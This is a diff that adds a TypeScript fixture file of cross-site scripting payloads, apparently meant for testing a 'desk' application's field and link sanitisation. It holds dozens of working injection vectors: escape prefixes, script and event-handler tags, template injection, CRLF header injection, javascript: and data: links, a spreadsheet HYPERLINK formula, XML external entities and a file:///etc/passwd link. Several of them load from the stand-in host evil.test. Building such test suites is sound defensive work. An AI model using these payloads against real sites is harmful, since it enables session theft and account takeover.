@@ -1,0 +1,103 @@
+/**
+ * What somebody might type into a field of the desk so that it runs where others read it: ways to act, each behind ways
+ * out of the place in which it is drawn. Each would set `window.ran`, ask for a dialog, or ask evil.test for something.
+ */
+const RUN = 'window.ran=1'
+
+/** Out of an attribute, a comment, a script, a style, a title, JSON, a template, CDATA. */
+const WAYS_OUT = [
+  '',
+  '">',
+  "'>",
+  '" ',
+  '-->',
+  ']]>',
+  '</textarea>',
+  '</title></style>',
+  '</script>',
+  '\\"}]</script>',
+  '&quot;&gt;',
+  '\u2028*/}',
+]
+
+const ACTS = [
+  `<script>${RUN}</script>`,
+  `<ScRiPt src=//evil.test/p.js></sCrIpT>`,
+  `<img src=x onerror=${RUN}>`,
+  `<img src=//evil.test/p.gif>`,
+  `<svg onload=${RUN}>`,
+  `<svg><a href=javascript:${RUN}><text y=9>x</text></a></svg>`,
+  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
+  `<math><mtext><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<details open ontoggle=${RUN}>`,
+  `<p style=animation-name:x onanimationstart=${RUN}>`,
+  `onmouseover=${RUN} autofocus tabindex=0 onfocus=${RUN} x="`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
+  `<iframe src=javascript:parent.${RUN}>`,
+  `<object data=javascript:${RUN}>`,
+  `<embed src=//evil.test/p.swf>`,
+  `<base href=//evil.test/>`,
+  `<meta http-equiv=refresh content="0;url=//evil.test/p">`,
+  `<link rel=stylesheet href=//evil.test/p.css>`,
+  `<style>@import url(//evil.test/p.css);</style>`,
+  `<form action=//evil.test/p><button formaction=javascript:${RUN}>x`,
+  `<a href="javascript:${RUN}" id=location name=cookie>x</a>`,
+  `<turbo-frame src=//evil.test/p id=beside></turbo-frame>`,
+  `<turbo-stream action=append target=main><template><img src=x onerror=${RUN}></template></turbo-stream>`,
+  `[x](javascript:${RUN})`,
+  `![x](//evil.test/p.png)`,
+  `[x]: <javascript:${RUN}> "<img src=x onerror=${RUN}>"`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${(()=>{${RUN}})()}`,
+  `<%= ${RUN} %>`,
+  `{$x :function onerror=|${RUN}|}`,
+  `<!ENTITY e SYSTEM "//evil.test/p"> &e;`,
+  `<?xml-stylesheet href="//evil.test/p.xsl"?>`,
+  `\u003cimg src=x onerror=${RUN}\u003e`,
+  `&lt;img src=x onerror=${RUN}&gt;`,
+  `&#60;script&#62;${RUN}&#60;/script&#62;`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `\r\nSet-Cookie: ran=1\r\n\r\n<script>${RUN}</script>`,
+  `\u202e<img src=x onerror=${RUN}>\u0000<script>alert(1)</script>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<template shadowrootmode=open><script>${RUN}</script></template>`,
+  `<x contenteditable onbeforeinput=${RUN}>x</x>`,
+  `<script type=application/ld+json>{"@context":"//evil.test/p"}</script>`,
+  `<script type=speculationrules>{"prerender":[{"urls":["//evil.test/p"]}]}</script>`,
+  `<link rel=prefetch href=//evil.test/p>`,
+  `"/><image href=//evil.test/p.png>`,
+  `<dialog open onclose=${RUN}><form method=dialog><button autofocus>x`,
+  `=HYPERLINK("//evil.test/p","x")`,
+  `<select autofocus onfocus=${RUN}><option>x`,
+  `<video poster=//evil.test/p.png><source onerror=${RUN} src=x>`,
+]
+
+/** So that whatever is cut off at the end of a short field is still a payload: the act comes first where nothing is left. */
+export const TYPED_PAYLOADS: readonly string[] = WAYS_OUT.flatMap((out) => ACTS.map((act) => `${out}${act}`))
+
+/** Where a link might lead. */
+export const LINK_PAYLOADS: readonly string[] = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  ` javascript:${RUN}`,
+  `java\nscript:${RUN}`,
+  `java\tscript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `javascript://evil.test/%0A${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=',
+  `vbscript:${RUN}`,
+  'blob:https://evil.test/1',
+  `view-source:javascript:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `https://example.org/"onclick="${RUN}`,
+  `https://example.org/'><script>${RUN}</script>`,
+  `https://user:${RUN}@example.org/`,
+  `https://example.org/#"><img src=x onerror=${RUN}>`,
+  `mailto:a@example.org?body=<img src=x onerror=${RUN}>`,
+  'file:///etc/passwd',
+  'filesystem:https://evil.test/temporary/p',
+  `about:blank#${RUN}`,
+  `\u202ejavascript:${RUN}`,
+]
